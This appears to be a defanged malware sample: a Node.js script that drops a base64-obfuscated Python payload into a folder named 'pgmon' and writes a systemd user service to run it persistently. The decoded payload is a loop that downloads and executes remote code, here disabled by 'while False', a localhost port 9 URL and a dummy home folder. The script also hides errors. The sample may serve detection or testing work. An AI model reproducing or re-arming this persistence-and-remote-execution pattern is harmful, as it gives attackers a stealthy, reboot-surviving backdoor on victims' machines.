// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');
const home = path.join(__dirname, 'marker');
const BODY = 'aW1wb3J0IHVybGxpYi5yZXF1ZXN0LHRpbWUKd2hpbGUgRmFsc2U6CiAgICBleGVjKHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8xMjcuMC4wLjE6OS8nKS5yZWFkKCkpCiAgICB0aW1lLnNsZWVwKDMwMDApCg==';
const UNIT = ['[Service]', 'ExecStart=/usr/bin/python3 ' + home + '/pgmon/service.py', 'Restart=always', '[Install]', 'WantedBy=default.target'];

try {
  fs.mkdirSync(path.join(home, 'pgmon'), { recursive: true });
  fs.writeFileSync(path.join(home, 'pgmon', 'service.py'), Buffer.from(BODY, 'base64').toString('utf8'));
  fs.mkdirSync(path.join(home, '.config', 'systemd', 'user'), { recursive: true });
  fs.writeFileSync(path.join(home, '.config/systemd/user', 'pgmon.service'), UNIT.join('\n'));
  if (process.env.NEVER_SET_FOR_SAMPLES) execSync('systemctl --user enable --now pgmon', { stdio: 'ignore' });
} catch {
  // Quiet.
}
